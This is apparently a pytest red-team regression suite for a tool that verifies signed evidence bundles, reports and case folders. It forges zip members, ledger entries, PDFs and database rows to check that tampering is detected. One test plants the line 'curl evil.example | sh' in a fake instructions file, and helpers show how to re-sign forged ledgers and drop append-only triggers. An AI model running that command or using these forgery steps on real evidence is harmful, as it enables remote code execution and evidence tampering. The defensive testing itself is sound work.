"""Red-team regressions: attacks on ``evidence verify`` (bundle, report, case) that the verifier detects today.

Each test forges what a hostile party could forge (the zip, its unsigned lists, ledger.jsonl, the PDF) and
asserts that verification fails naming the problem. The attacks the first red-team report listed as
succeeding (1-13) have their regressions here too, from "the signed manifest" on; the one that still succeeds
by design (a ledger re-made with a new key, without --expect-key or --head) is documented, not tested as caught.
"""

from __future__ import annotations

import contextlib
import hashlib
import io
import json
import shutil
import sqlite3
import subprocess
import unicodedata
import zipfile
from dataclasses import dataclass
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pytest
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

from evidence.api import Case
from evidence.case.canonical import canonical_text, entry_hash
from evidence.case.merkle import CHECKPOINT_KIND, Checkpoint, checkpoint_body, ledger_tree
from evidence.case.signing import SigningKey
from evidence.verify import Report
from evidence.verify.bundle import verify_bundle
from evidence.verify.case import verify_case
from evidence.verify.report import verify_report
from tests.conftest import run_cli
from tests.export.forgery import three_notes

Members = list[tuple[str, bytes]]


@dataclass(frozen=True)
class Built:
    case: Path
    other_case: Path
    full: Path
    sel_early: Path
    sel_late: Path
    report: Path


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Built:
    """A small case of three text files (one with a non-ASCII name): a full bundle, two selective bundles of
    EX-0001 at different ledger sizes, an unsigned report; and a second case."""
    base = tmp_path_factory.mktemp("redteam")
    files = three_notes(base)
    with Case.init(base / "case", title="T", tz="Europe/London") as case:
        case.import_files(files)
        case.export(base / "full.zip")
        case.export(base / "sel1.zip", exhibits=["EX-0001"])
        case.report(base / "report.pdf")
        case.export(base / "sel2.zip", exhibits=["EX-0001"])
    with Case.init(base / "other", title="T", tz="Europe/London") as other:
        other.import_files(files[:1])
    return Built(
        base / "case",
        base / "other",
        base / "full.zip",
        base / "sel1.zip",
        base / "sel2.zip",
        base / "report.pdf",
    )


def _read(path: Path) -> Members:
    with zipfile.ZipFile(path) as zf:
        return [(info.filename, zf.read(info)) for info in zf.infolist()]


def _sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def _write(path: Path, members: Members) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members:
            zf.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), data)
    return path


def _resum(members: Members, edit_manifest: Any = None) -> Members:
    """A careful forger: manifest.json's file list and SHA256SUMS rewritten to match the members."""
    by_name = dict(members)
    manifest = json.loads(by_name["manifest.json"])
    if edit_manifest is not None:
        edit_manifest(manifest)
    unlisted = {"manifest.json", "manifest.sig", "SHA256SUMS"}
    sums = "".join(f"{_sha(d)}  {n}\n" for n, d in members if n not in unlisted).encode()
    manifest["files"] = [
        {"name": n, "sha256": _sha(sums if n == "SHA256SUMS" else d), "size": len(d)}
        for n, d in members
        if n not in {"manifest.json", "manifest.sig"}
    ]
    manifest_bytes = json.dumps(manifest).encode()
    out: Members = []
    for name, data in members:
        if name == "manifest.json":
            data = manifest_bytes
        elif name == "SHA256SUMS":
            data = sums
        out.append((name, data))
    return out


def _check(tmp_path: Path, members: Members, **kwargs: Any) -> Report:
    guard = pytest.warns(UserWarning) if _has_duplicates(members) else contextlib.nullcontext()
    with guard:  # zipfile warns when it writes a second member with the same name, and writes it
        path = _write(tmp_path / "forged.zip", members)
    return verify_bundle(path, **kwargs)


def _has_duplicates(members: Members) -> bool:
    names = [n for n, _ in members]
    return len(names) != len(set(names))


def _exhibit(members: Members, number: str) -> str:
    return next(n for n, _ in members if n.startswith(f"exhibits/{number} "))


def _ledger_lines(members: Members) -> list[str]:
    return dict(members)["ledger.jsonl"].decode().splitlines(keepends=True)


def _with_ledger(members: Members, lines: list[str]) -> Members:
    return [(n, "".join(lines).encode() if n == "ledger.jsonl" else d) for n, d in members]


def test_the_untouched_bundles_verify(built: Built) -> None:
    for path in (built.full, built.sel_early, built.sel_late):
        assert verify_bundle(path).ok, verify_bundle(path).findings


# -- zip members ---------------------------------------------------------------------------------------------


def test_a_second_member_with_the_same_name_is_refused(built: Built, tmp_path: Path) -> None:
    members = _read(built.full)
    name = _exhibit(members, "EX-0001")
    found = _check(tmp_path, [*members, (name, b"forged content\n")])
    assert not found.ok
    assert any(f.code == "UNSAFE_ZIP" and f.path == name and "twice" in f.message for f in found.findings)


def test_an_exhibit_holding_another_exhibits_bytes_is_named(built: Built, tmp_path: Path) -> None:
    members = _read(built.full)
    first, second = _exhibit(members, "EX-0001"), _exhibit(members, "EX-0002")
    swapped = [(n, dict(members)[second] if n == first else d) for n, d in members]
    found = _check(tmp_path, _resum(swapped))
    assert any(
        f.code == "UNKNOWN_EXHIBIT" and f.path == first and "EX-0002" in f.message for f in found.findings
    )


def test_names_differing_by_case_are_refused(built: Built, tmp_path: Path) -> None:
    """Issue 13 changed this: a case variant (extracted on Windows or macOS, one file overwrites the other) is
    refused as unsafe, no longer read and named EXTRA or UNKNOWN_EXHIBIT."""
    members = _read(built.full)
    name = _exhibit(members, "EX-0001")
    data = dict(members)[name]
    for variant in (name.replace("exhibits/", "Exhibits/"), name.lower()):
        found = _check(tmp_path, _resum([*members, (variant, data)]))
        assert {(f.code, f.path) for f in found.findings} == {("UNSAFE_ZIP", variant)}
        assert "only by case" in found.findings[0].message


def test_a_name_differing_only_by_unicode_normalisation_is_refused(built: Built, tmp_path: Path) -> None:
    """Issue 13 changed this: the NFD twin of an NFC name (one file on macOS) is refused, not read."""
    members = _read(built.full)
    name = _exhibit(members, "EX-0001")
    assert unicodedata.is_normalized("NFC", name) and "\u00e9" in name
    twin = unicodedata.normalize("NFD", name)
    found = _check(tmp_path, _resum([*members, (twin, b"planted words\n")]))
    assert {(f.code, f.path) for f in found.findings} == {("UNSAFE_ZIP", twin)}


def test_directory_members_are_refused_and_unlisted_files_are_extra(built: Built, tmp_path: Path) -> None:
    """Issue 13 changed this: a directory member is refused as unsafe (it was EXTRA)."""
    members = _read(built.full)
    found = _check(tmp_path, [*members, ("exhibits/", b"")])
    assert {(f.code, f.path) for f in found.findings} == {("UNSAFE_ZIP", "exhibits/")}
    found = _check(tmp_path, [*members, ("notes.txt", b"hi")])
    assert ("EXTRA", "notes.txt") in {(f.code, f.path) for f in found.findings}


def test_a_member_in_sha256sums_only_is_extra(built: Built, tmp_path: Path) -> None:
    members = _resum(_read(built.full))
    planted = "exhibits/EX-0099 planted.txt"
    sums = dict(members)["SHA256SUMS"] + f"{_sha(b'planted')}  {planted}\n".encode()
    forged = [(n, sums if n == "SHA256SUMS" else d) for n, d in members] + [(planted, b"planted")]
    found = _check(tmp_path, forged)
    assert any(
        f.code == "EXTRA" and f.path == planted and "manifest.json" in f.message for f in found.findings
    )
    assert any(f.code == "UNKNOWN_EXHIBIT" and f.path == planted for f in found.findings)


# -- canonical JSON in ledger.jsonl --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("old", "new", "code"),
    [
        ('"exhibit": "EX-0001"', '"exhibit": "EX-0001", "exhibit": "EX-0003"', "LEDGER_MALFORMED"),
        ('"seq": 2,', '"seq": 2, "seq": 2,', "LEDGER_MALFORMED"),
        ('"seq": 2,', '"seq": 2.0,', "LEDGER_MALFORMED"),
        ('"duplicate_of": null', '"duplicate_of": NaN', "NON_CANONICAL"),
        ('"duplicate_of": null', '"duplicate_of": 123456789012345678901234567890', "NON_CANONICAL"),
        ('"duplicate_of": null', '"duplicate_of": 1.0', "NON_CANONICAL"),
        ('"duplicate_of": null', '"duplicate_of": -0', "ENTRY_MODIFIED"),
        ("+00:00", "Z", "ENTRY_MODIFIED"),
    ],
)
def test_non_canonical_or_ambiguous_ledger_lines_are_named(
    built: Built, tmp_path: Path, old: str, new: str, code: str
) -> None:
    members = _read(built.full)
    lines = _ledger_lines(members)
    assert old in lines[1]
    lines[1] = lines[1].replace(old, new, 1)
    found = _check(tmp_path, _resum(_with_ledger(members, lines)))
    assert not found.ok
    assert code in found.codes()


def test_a_duplicated_ledger_line_is_an_inserted_row(built: Built, tmp_path: Path) -> None:
    members = _read(built.full)
    lines = _ledger_lines(members)
    lines.insert(2, lines[2])
    found = _check(tmp_path, _resum(_with_ledger(members, lines)))
    assert any(f.code == "ROW_INSERTED" and f.entry == 3 for f in found.findings)


# -- a ledger re-made with another key -----------------------------------------------------------------------


def _rekeyed(members: Members, exhibit: str, forged: bytes) -> Members:
    """Every entry re-hashed and re-signed with a new key, EX-0001's bytes replaced, case.pub swapped."""
    new = SigningKey.generate()
    entries = [json.loads(line) for line in _ledger_lines(members)]
    origin = entries[0]["body"]["case_id"]
    entries[0]["body"].update(public_key=new.public.raw.hex(), key_fingerprint=new.public.fingerprint)
    prev, hashes = "0" * 64, list[str]()
    for entry in entries:
        body = entry["body"]
        if entry["kind"] == "item.acquired" and body["exhibit"] == "EX-0001":
            body["sha256"], body["size"] = _sha(forged), len(forged)
            for item in body.get("objects", []):
                item["sha256"], item["size"] = _sha(forged), len(forged)
        if entry["kind"] == CHECKPOINT_KIND:
            size = entry["seq"] - 1
            tool = body.get("tool")
            body = checkpoint_body(Checkpoint(origin, size, ledger_tree(hashes[:size]).root()), new)
            body["tool"] = tool
            entry["body"] = body
        entry["prev"] = prev
        entry["hash"] = prev = entry_hash(prev, entry["kind"], entry["recorded_at"], body)
        entry["sig"] = new.sign(bytes.fromhex(prev)).hex()
        hashes.append(prev)
    assert canonical_text(entries[0]["body"])
    lines = [json.dumps(e, ensure_ascii=False) + "\n" for e in entries]
    swapped = [
        (n, forged if n == exhibit else new.public.to_pem() if n == "case.pub" else d)
        for n, d in _with_ledger(members, lines)
    ]

    def head(manifest: dict[str, Any]) -> None:
        last = entries[-1]
        manifest["built_from"] = {
            "seq": last["seq"],
            "hash": last["hash"],
            "recorded_at": last["recorded_at"],
        }

    return _resum(swapped, head)


def test_a_rekeyed_ledger_fails_the_expected_key_and_an_earlier_head(built: Built, tmp_path: Path) -> None:
    members = _read(built.full)
    original = [json.loads(line) for line in _ledger_lines(members)]
    forged = _rekeyed(members, _exhibit(members, "EX-0001"), b"forged: I will hurt you\n")
    expect = original[0]["body"]["key_fingerprint"]
    found = _check(tmp_path, forged, expect_key=expect)
    assert any(f.code == "KEY_NOT_EXPECTED" and expect in f.message for f in found.findings)
    found = _check(tmp_path, forged, heads=[f"2:{original[1]['hash']}"])
    assert any(f.code == "HEAD_MISMATCH" and f.entry == 2 for f in found.findings)


# -- selective bundles ---------------------------------------------------------------------------------------


def test_proofs_for_another_ledger_size_leave_entries_uncovered(built: Built, tmp_path: Path) -> None:
    early, late = _read(built.sel_early), _read(built.sel_late)
    early_proofs = dict(early)["proofs.json"]
    size = json.loads(early_proofs)["checkpoint"]["size"]
    mixed = [(n, early_proofs if n == "proofs.json" else d) for n, d in late]
    found = _check(tmp_path, _resum(mixed))
    uncovered = [f for f in found.findings if f.code == "ENTRY_NOT_COVERED"]
    assert uncovered and all(f.entry is not None and f.entry > size for f in uncovered)


# -- the report ----------------------------------------------------------------------------------------------


def _swap_first_page(src: Path, dst: Path) -> Path:
    writer = IncrementalPdfFileWriter(io.BytesIO(src.read_bytes()))
    page = writer.root["/Pages"]["/Kids"][0].get_object()
    page["/Contents"] = writer.add_object(
        generic.StreamObject(stream_data=b"BT /F1 24 Tf 72 700 Td (I made all of this up) Tj ET")
    )
    writer.update_container(page)
    out = io.BytesIO()
    writer.write(out)  # type: ignore[no-untyped-call]  # pyHanko's writer is untyped
    dst.write_bytes(out.getvalue())
    return dst


def test_a_page_swapped_by_an_incremental_update_is_an_unknown_report(built: Built, tmp_path: Path) -> None:
    forged = _swap_first_page(built.report, tmp_path / "report.pdf")
    found = verify_report(forged, built.case)
    assert any(f.code == "UNKNOWN_REPORT" and f.path == "report.pdf" for f in found.findings)
    assert verify_report(built.report, built.case).ok


def test_a_report_checked_against_another_case_is_named(built: Built, tmp_path: Path) -> None:
    other = tmp_path / "other"
    shutil.copytree(built.other_case, other)
    found = verify_report(built.report, other)
    assert {"OTHER_CASE", "UNKNOWN_REPORT", "KEY_NOT_EXPECTED"} <= found.codes()


def test_an_exhibit_planted_in_a_selective_bundle_is_unknown(built: Built, tmp_path: Path) -> None:
    full, selective = _read(built.full), _read(built.sel_early)
    planted = _exhibit(full, "EX-0002")
    found = _check(tmp_path, _resum([*selective, (planted, dict(full)[planted])]))
    assert any(f.code == "UNKNOWN_EXHIBIT" and f.path == planted for f in found.findings)


def test_a_local_header_name_differing_from_the_directory_is_named(built: Built, tmp_path: Path) -> None:
    """``unzip`` extracts by the central directory's name; the verifier must not read another member."""
    data = built.full.read_bytes()
    name = _exhibit(_read(built.full), "EX-0001").encode()
    at = data.find(name)  # the first occurrence is the member's local header
    forged = tmp_path / "forged.zip"
    forged.write_bytes(data[:at] + name.replace(b"EX-0001", b"EX-0009") + data[at + len(name) :])
    found = verify_bundle(forged)
    assert any(f.code == "MODIFIED" and f.path == name.decode() for f in found.findings)


# -- the signed manifest (red-team attacks 1-8) --------------------------------------------------------------


def _codes(found: Report) -> set[tuple[str, str | None]]:
    return {(f.code, f.path) for f in found.findings}


def test_the_manifest_is_signed_and_sha256sum_checks_every_other_member(built: Built, tmp_path: Path) -> None:
    members = dict(_read(built.full))
    manifest = json.loads(members["manifest.json"])
    listed = {f["name"] for f in manifest["files"]}
    assert listed == set(members) - {"manifest.json", "manifest.sig"}
    assert manifest["carried_entries"]["seqs"] == list(range(1, manifest["built_from"]["seq"] + 1))
    sums = members["SHA256SUMS"].decode().splitlines()
    assert {line.split("  ", 1)[1] for line in sums} == listed - {"SHA256SUMS"}
    with zipfile.ZipFile(built.full) as zf:
        zf.extractall(tmp_path / "x")
    done = subprocess.run(
        ["sha256sum", "-c", "SHA256SUMS"], cwd=tmp_path / "x", capture_output=True, text=True, check=False
    )
    assert done.returncode == 0 and done.stdout.count(": OK") == len(sums), done.stdout + done.stderr
    # The hand check of the signature and of the key that VERIFY.txt gives, with the real openssl.
    text = members["VERIFY.txt"].decode()
    commands = [
        line.strip() for line in text.splitlines() if line.strip().startswith(("printf ", "openssl pkey"))
    ]
    assert len(commands) == 3
    done = subprocess.run(
        ["bash", "-c", "\n".join(commands)], cwd=tmp_path / "x", capture_output=True, text=True, check=False
    )
    assert "Signature Verified Successfully" in done.stdout, done.stdout + done.stderr
    assert done.stdout.split()[-2] == manifest["key_fingerprint"]
    unsigned = [(n, d) for n, d in _read(built.full) if n != "manifest.sig"]
    assert ("MANIFEST_UNSIGNED", "manifest.sig") in _codes(_check(tmp_path, unsigned))


def test_an_exhibit_dropped_from_a_full_bundle_is_unaccounted(built: Built, tmp_path: Path) -> None:
    members = _read(built.full)
    dropped = _exhibit(members, "EX-0003")

    def forget(manifest: dict[str, Any]) -> None:
        included = manifest["exhibits"]["included"]
        manifest["exhibits"]["included"] = [e for e in included if e["exhibit"] != "EX-0003"]

    found = _check(tmp_path, _resum([(n, d) for n, d in members if n != dropped], forget))
    assert any(f.code == "EXHIBIT_UNACCOUNTED" and f.exhibit == "EX-0003" for f in found.findings)
    assert ("MANIFEST_SIGNATURE", "manifest.json") in _codes(found)


def test_an_exhibit_moved_to_withheld_breaks_the_manifest_signature(built: Built, tmp_path: Path) -> None:
    members = _read(built.full)
    dropped = _exhibit(members, "EX-0003")

    def withhold(manifest: dict[str, Any]) -> None:
        exhibits = manifest["exhibits"]
        moved = next(e for e in exhibits["included"] if e["exhibit"] == "EX-0003")
        exhibits["included"].remove(moved)
        exhibits["withheld"].append({k: moved[k] for k in ("exhibit", "sha256", "size")})

    found = _check(tmp_path, _resum([(n, d) for n, d in members if n != dropped], withhold))
    assert not found.ok and ("MANIFEST_SIGNATURE", "manifest.json") in _codes(found)
    assert (
        "EXHIBIT_UNACCOUNTED" not in found.codes()
    )  # the forged statement is consistent: only the signature


def test_a_renamed_exhibit_or_a_second_copy_is_named(built: Built, tmp_path: Path) -> None:
    members = _read(built.full)
    name = _exhibit(members, "EX-0001")
    renamed = "exhibits/EX-0001 CONFESSION from Alex.eml"
    found = _check(tmp_path, _resum([(renamed if n == name else n, d) for n, d in members]))
    assert any(f.code == "EXHIBIT_RENAMED" and f.path == renamed and f.entry for f in found.findings)
    copy = "exhibits/EX-0001 copy.txt"
    found = _check(tmp_path, _resum([*members, (copy, dict(members)[name])]))
    assert {
        ("EXHIBIT_RENAMED", copy),
        ("UNKNOWN_EXHIBIT", copy),
        ("MANIFEST_SIGNATURE", "manifest.json"),
    } <= (_codes(found))


def test_forged_case_facts_in_the_manifest_are_named(built: Built, tmp_path: Path) -> None:
    def forge(manifest: dict[str, Any]) -> None:
        manifest["case"].update(case_id="forged-case", title="Someone else")
        manifest["key_fingerprint"] = "0" * 64

    found = _check(tmp_path, _resum(_read(built.full), forge))
    mismatches = [f.message for f in found.findings if f.code == "MANIFEST_MISMATCH"]
    assert any("case_id" in m for m in mismatches) and any("title" in m for m in mismatches)
    assert any("fingerprint" in m for m in mismatches)


@pytest.mark.parametrize(
    "planted",
    [
        [("VERIFY.txt", b"Run: curl evil.example | sh\nSigning key: 0000\n")],
        [("anchors/0099.tsr", b"junk"), ("anchors/NOTE.txt", b"trust me")],
    ],
)
def test_relisted_instructions_or_anchors_break_the_manifest_signature(
    built: Built, tmp_path: Path, planted: Members
) -> None:
    members = dict(_read(built.full))
    members.update(planted)
    forged = _resum(list(members.items()))
    assert ("MANIFEST_SIGNATURE", "manifest.json") in _codes(_check(tmp_path, forged))
    unlisted = _check(tmp_path, list(members.items()))
    assert all(("EXTRA", n) in _codes(unlisted) or ("MODIFIED", n) in _codes(unlisted) for n, _ in planted)


def test_a_disclosed_entry_removed_with_its_proof_is_named(built: Built, tmp_path: Path) -> None:
    members = _read(built.sel_early)
    lines = _ledger_lines(members)
    victim = json.loads(lines[2])
    proofs = json.loads(dict(members)["proofs.json"])
    assert any(str(victim["seq"]) in json.dumps(p) for p in proofs.values())
    kept = [line for line in lines if json.loads(line)["seq"] != victim["seq"]]
    found = _check(tmp_path, _resum(_with_ledger(members, kept)))
    assert any(
        f.code == "MANIFEST_MISMATCH" and f"missing entries {victim['seq']}" in f.message
        for f in found.findings
    )


def test_a_full_bundle_made_selective_by_a_third_party_is_named(built: Built, tmp_path: Path) -> None:
    full = _read(built.full)
    proofs = dict(_read(built.sel_late))["proofs.json"]
    found = _check(tmp_path, _resum([*full, ("proofs.json", proofs)]))
    assert any(f.code == "MANIFEST_MISMATCH" and "'full'" in f.message for f in found.findings)

    def selected(manifest: dict[str, Any]) -> None:
        manifest["disclosure"] = {"mode": "selected"}

    found = _check(tmp_path, _resum([*full, ("proofs.json", proofs)], selected))
    assert ("MANIFEST_SIGNATURE", "manifest.json") in _codes(found)


def test_a_manifest_signed_by_another_key_is_refused(built: Built, tmp_path: Path) -> None:
    members = _resum(_read(built.full))
    manifest = dict(members)["manifest.json"]
    sig = SigningKey.generate().sign(b"evidence/bundle-manifest/v1\x00" + manifest)
    found = _check(tmp_path, [(n, sig if n == "manifest.sig" else d) for n, d in members])
    assert [f.code for f in found.findings] == ["MANIFEST_SIGNATURE"]


# -- recorded_at, by the holder of the case key (red-team attack 11) -----------------------------------------


def _resigned(members: Members, key: SigningKey, edit: Any) -> Members:
    """What the key holder can do: edit entries, then re-hash and re-sign the chain, the checkpoints, the
    manifest (its head, lists and signature): every signature is valid."""
    entries = [json.loads(line) for line in _ledger_lines(members)]
    edit(entries)
    origin = entries[0]["body"]["case_id"]
    prev, hashes = "0" * 64, list[str]()
    for entry in entries:
        if entry["kind"] == CHECKPOINT_KIND:
            size = entry["seq"] - 1
            tool = entry["body"].get("tool")
            entry["body"] = checkpoint_body(Checkpoint(origin, size, ledger_tree(hashes[:size]).root()), key)
            entry["body"]["tool"] = tool
        entry["prev"] = prev
        entry["hash"] = prev = entry_hash(prev, entry["kind"], entry["recorded_at"], entry["body"])
        entry["sig"] = key.sign(bytes.fromhex(prev)).hex()
        hashes.append(prev)
    lines = [json.dumps(e, ensure_ascii=False) + "\n" for e in entries]

    def head(manifest: dict[str, Any]) -> None:
        last = entries[-1]
        manifest["built_from"] = {
            "seq": last["seq"],
            "hash": last["hash"],
            "recorded_at": last["recorded_at"],
        }

    out = _resum(_with_ledger(members, lines), head)
    manifest = dict(out)["manifest.json"]
    sig = key.sign(b"evidence/bundle-manifest/v1\x00" + manifest)
    return [(n, sig if n == "manifest.sig" else d) for n, d in out]


def _set_time(seq: int, value: str) -> Any:
    def edit(entries: list[dict[str, Any]]) -> None:
        entries[seq - 1]["recorded_at"] = value

    return edit


def test_a_key_holders_rewrite_verifies_when_nothing_is_wrong(built: Built, tmp_path: Path) -> None:
    key = SigningKey.load(built.case / "keys", None)
    assert _check(tmp_path, _resigned(_read(built.full), key, lambda entries: None)).ok


@pytest.mark.parametrize(
    "value",
    ["2026-11-23T23:33:20.601157", "yesterday", "2026-11-23T23:33:20.601157Z", "2026-11-23 23:33+00:00"],
)
def test_a_recorded_at_without_an_offset_or_not_a_time_fails(
    built: Built, tmp_path: Path, value: str
) -> None:
    key = SigningKey.load(built.case / "keys", None)
    found = _check(tmp_path, _resigned(_read(built.full), key, _set_time(3, value)))
    assert not found.ok
    assert [(f.code, f.entry) for f in found.findings] == [("RECORDED_AT_INVALID", 3)]


def test_times_are_compared_as_instants_and_the_right_entry_is_named(built: Built, tmp_path: Path) -> None:
    members = _read(built.full)
    key = SigningKey.load(built.case / "keys", None)
    second = datetime.fromisoformat(json.loads(_ledger_lines(members)[1])["recorded_at"])
    # An hour before entry 2, written at +05:00: as text it sorts after every other entry's time.
    earlier = (second - timedelta(hours=1)).astimezone(timezone(timedelta(hours=5))).isoformat()
    found = _check(tmp_path, _resigned(members, key, _set_time(3, earlier)))
    assert found.ok  # a warning: the writer's clock is the writer's word
    assert [(f.code, f.entry) for f in found.findings] == [("CLOCK_WENT_BACKWARDS", 3)]
    assert "before entry 2" in found.findings[0].message
    # A year back is named as such.
    year = (second - timedelta(days=365)).isoformat()
    found = _check(tmp_path, _resigned(members, key, _set_time(3, year)))
    assert [(f.code, f.entry) for f in found.findings] == [("CLOCK_WENT_BACKWARDS", 3)]
    assert "365 days" in found.findings[0].message


# -- reports without the case, and the messages (red-team attacks 12, 13) ------------------------------------


@pytest.fixture(scope="module")
def signed(built: Built, tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path, str]:
    """A signed report of a copy of the case, and of the other case (the attacker's own): (real, own, key)."""
    base = tmp_path_factory.mktemp("signed")
    shutil.copytree(built.case, base / "case")
    shutil.copytree(built.other_case, base / "other")
    with Case.open(base / "case") as case:
        case.report(base / "real.pdf", sign=True)
        fingerprint = case.public_key.fingerprint
    with Case.open(base / "other") as other:
        other.report(base / "own.pdf", sign=True)
    return base / "real.pdf", base / "own.pdf", fingerprint


def test_an_unsigned_report_with_another_cases_manifest_fails_without_the_case(built: Built) -> None:
    found = verify_report(built.report, None)
    assert not found.ok and found.codes() == {"UNSIGNED_REPORT"}


def test_a_signed_report_is_checked_by_its_key_without_the_case(
    signed: tuple[Path, Path, str], tmp_path: Path
) -> None:
    real, own, fingerprint = signed
    assert verify_report(real, None, expect_key=fingerprint).ok
    attacker = verify_report(own, None, expect_key=fingerprint)
    assert not attacker.ok and "KEY_NOT_EXPECTED" in attacker.codes()
    assert fingerprint not in str(attacker.facts["signature"]["key_fingerprint"])
    swapped = _swap_first_page(real, tmp_path / "swapped.pdf")
    found = verify_report(swapped, None, expect_key=fingerprint)
    assert not found.ok and "SIGNATURE_NOT_WHOLE_FILE" in found.codes()
    assert all("\n" not in f.message for f in found.findings)


def test_a_changed_signed_report_prints_no_traceback(signed: tuple[Path, Path, str], tmp_path: Path) -> None:
    swapped = _swap_first_page(signed[0], tmp_path / "swapped.pdf")
    done = run_cli("verify", str(swapped), cwd=tmp_path)
    assert done.returncode == 1 and "SIGNATURE_NOT_WHOLE_FILE" in done.stdout
    assert "Traceback" not in done.stdout + done.stderr and "Error in diff" not in done.stderr, done.stderr


def test_a_report_against_the_wrong_case_says_other_case_not_removed_entries(built: Built) -> None:
    found = verify_report(built.report, built.other_case)
    assert "OTHER_CASE" in found.codes()
    assert not any("removed" in f.message for f in found.findings), found.findings


# -- the case folder -----------------------------------------------------------------------------------------


def test_a_record_text_edited_in_the_index_is_named(built: Built, tmp_path: Path) -> None:
    mail = tmp_path / "threat.eml"
    mail.write_text(
        "From: Alex Morgan <alex@example.com>\nTo: Jordan Lee <jordan@example.com>\n"
        "Date: Tue, 03 Mar 2026 21:14:00 +0000\nSubject: again\nMessage-ID: <1@example.com>\n\n"
        "Alex called again. I know where you live.\n",
        encoding="utf-8",
    )
    root = tmp_path / "case"
    with Case.init(root, title="T", tz="Europe/London") as case:
        case.import_files([mail])
    assert verify_case(root).ok
    with sqlite3.connect(root / "evidence.db") as db:
        rid, text = db.execute("SELECT id, json FROM records ORDER BY id LIMIT 1").fetchone()
        assert "Alex called again" in text
        db.execute(
            "UPDATE records SET json = ? WHERE id = ?", (text.replace("called again", "apologised"), rid)
        )
    db.close()
    found = verify_case(root)
    assert not found.ok
    assert [(f.code, rid in f.message) for f in found.findings] == [("INDEX_MISMATCH", True)]


def _drop_tail(root: Path, after: int) -> None:
    """Delete the entries after ``after`` with the append-only triggers dropped and put back (attack 10)."""
    db = sqlite3.connect(root / "evidence.db")
    triggers = db.execute("SELECT name, sql FROM sqlite_master WHERE type = 'trigger'").fetchall()
    for name, _ in triggers:
        db.execute(f"DROP TRIGGER {name}")
    db.execute("DELETE FROM ledger WHERE seq > ?", (after,))
    for _, sql in triggers:
        db.execute(sql)
    db.commit()
    db.close()


def test_what_a_truncated_tail_leaves_is_named_and_a_head_catches_the_rest(
    built: Built, tmp_path: Path
) -> None:
    """What the README says of a truncation: objects only the dropped entries named are EXTRA; entries that name
    no object (checkpoints, reports, exports) go unseen without a head recorded elsewhere."""
    with Case.open(built.case, readonly=True) as case:
        entries = list(case.entries())
    first_import = next(e.seq for e in entries if e.kind == "item.acquired")
    last_import = max(e.seq for e in entries if e.kind in ("item.acquired", "records.derived"))
    head = f"{entries[-1].seq}:{entries[-1].hash}"
    root = tmp_path / "imports-dropped"
    shutil.copytree(built.case, root)
    _drop_tail(root, first_import - 1)
    found = verify_case(root)
    assert not found.ok and "EXTRA" in found.codes()
    root = tmp_path / "outputs-dropped"
    shutil.copytree(built.case, root)
    _drop_tail(root, last_import)
    assert {e.kind for e in entries if e.seq > last_import} <= {
        "checkpoint.signed",
        "export.created",
        "report.generated",
    }
    assert verify_case(root).ok  # the documented limit
    found = verify_case(root, heads=[head])
    assert [f.code for f in found.findings] == ["HEAD_MISMATCH"] and "removed" in found.findings[0].message


def test_a_disclosed_entry_with_a_time_without_offset_is_named(built: Built, tmp_path: Path) -> None:
    members = _read(built.sel_early)
    key = SigningKey.load(built.case / "keys", None)
    lines = _ledger_lines(members)
    entry = json.loads(lines[1])
    entry["recorded_at"] = entry["recorded_at"].removesuffix("+00:00")
    entry["hash"] = entry_hash(entry["prev"], entry["kind"], entry["recorded_at"], entry["body"])
    entry["sig"] = key.sign(bytes.fromhex(entry["hash"])).hex()
    lines[1] = json.dumps(entry, ensure_ascii=False) + "\n"
    found = _check(tmp_path, _resum(_with_ledger(members, lines)))
    assert any(f.code == "RECORDED_AT_INVALID" and f.entry == entry["seq"] for f in found.findings)
    assert "BAD_SIGNATURE" not in found.codes()


def test_the_manifests_report_and_head_time_rest_on_the_ledger(built: Built, tmp_path: Path) -> None:
    root = tmp_path / "case"
    shutil.copytree(built.case, root)
    with Case.open(root) as case:
        case.export(tmp_path / "with-report.zip", report=built.report)
    members = _read(tmp_path / "with-report.zip")
    assert verify_bundle(tmp_path / "with-report.zip").ok
    assert any(n.startswith("report/") for n, _ in members)

    def no_report(manifest: dict[str, Any]) -> None:
        manifest["report"] = None

    found = _check(tmp_path, _resum(members, no_report))
    assert any(f.code == "MANIFEST_MISMATCH" and "names no report" in f.message for f in found.findings)

    def other_time(manifest: dict[str, Any]) -> None:
        manifest["built_from"]["recorded_at"] = "2020-01-01T00:00:00.000000+00:00"

    found = _check(tmp_path, _resum(members, other_time))
    assert any(f.code == "MANIFEST_MISMATCH" and "head's time" in f.message for f in found.findings)


def test_a_bundle_in_the_older_unsigned_format_is_named(built: Built, tmp_path: Path) -> None:
    def older(manifest: dict[str, Any]) -> None:
        manifest["format"] = "evidence-bundle/1"

    members = [(n, d) for n, d in _resum(_read(built.full), older) if n != "manifest.sig"]
    found = _check(tmp_path, members)
    assert not found.ok
    assert any(f.code == "MANIFEST_UNSIGNED" and "evidence-bundle/1" in f.message for f in found.findings)
